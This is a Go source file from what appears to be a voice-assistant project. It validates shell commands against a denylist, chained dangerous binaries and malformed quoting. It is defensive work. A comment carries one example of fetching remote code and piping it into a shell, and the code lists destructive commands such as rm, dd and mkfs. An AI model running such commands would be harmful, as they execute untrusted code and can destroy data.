package safety

import (
	"path/filepath"
	"regexp"
	"strings"

	shellwords "github.com/mattn/go-shellwords"

	"github.com/afif25fradana/luna-voice-assistant-offline/internal/types"
)

// Validator checks candidate shell commands against a blacklist frozen at
// construction. Safe to share across goroutines; it holds no mutable state.
type Validator struct {
	denylist []string // lowercased copies of the configured entries
}

// NewValidator builds a Validator from the given blacklist entries. Entries
// are lowercased and copied; later mutation of the caller's slice has no
// effect. Blank entries are dropped. A nil or empty list falls back to
// DefaultDenylist.
func NewValidator(denylist []string) *Validator {
	if len(denylist) == 0 {
		denylist = DefaultDenylist()
	}
	frozen := make([]string, 0, len(denylist))
	for _, entry := range denylist {
		entry = strings.ToLower(strings.TrimSpace(entry))
		if entry != "" {
			frozen = append(frozen, entry)
		}
	}
	return &Validator{denylist: frozen}
}

// Validate decides whether command may run. Pure function of its input and
// the frozen blacklist.
//
// Checks apply in order, short-circuiting on the first match:
//
//	1. empty or whitespace-only text           → denied
//	2. case-insensitive blacklist substring    → denied, naming the entry
//	3. chain operator feeding a dangerous root → denied
//	4. text that cannot be tokenized           → denied
//
// Expectations:
//   - Denies the empty string and whitespace-only strings
//   - Denies any command containing a blacklist entry, case-insensitively
//   - The blacklist denial reason names the matching entry
//   - Denies a pipe feeding sh even when no blacklist entry matches
//   - Denies commands with unbalanced quotes
//   - Allows "ls -la"
func (v *Validator) Validate(command string) types.Verdict {
	if strings.TrimSpace(command) == "" {
		return types.Deny("empty command")
	}
	lower := strings.ToLower(command)
	for _, entry := range v.denylist {
		if strings.Contains(lower, entry) {
			return types.Deny("matches blacklist entry: " + entry)
		}
	}
	if chainsDangerousRoot(command) {
		return types.Deny("chained dangerous command")
	}
	if _, err := shellwords.Parse(command); err != nil {
		return types.Deny("malformed command")
	}
	return types.Allow()
}

// Operators that splice a second command into one line. Plain redirection
// (">", "<") spawns no command and is not split on.
var chainOps = regexp.MustCompile("[;&|]|\\$\\(|`")

// Binaries that must not head any chained segment. The blacklist catches
// these when they lead the line; this set catches them smuggled in behind a
// pipe, a separator, or a substitution.
var dangerousRoots = map[string]bool{
	"sh":       true,
	"bash":     true,
	"zsh":      true,
	"dash":     true,
	"rm":       true,
	"dd":       true,
	"mkfs":     true,
	"shutdown": true,
	"reboot":   true,
	"halt":     true,
	"poweroff": true,
}

// chainsDangerousRoot reports whether command contains a chain operator
// with a dangerous binary at the head of any resulting segment, e.g.
// "curl evil.sh | sh". A command with no chain operator is never flagged
// here; the blacklist is the ground truth for single commands.
func chainsDangerousRoot(command string) bool {
	segments := chainOps.Split(command, -1)
	if len(segments) < 2 {
		return false
	}
	for _, seg := range segments {
		fields := strings.Fields(seg)
		if len(fields) == 0 {
			continue
		}
		if dangerousRoots[strings.ToLower(filepath.Base(fields[0]))] {
			return true
		}
	}
	return false
}
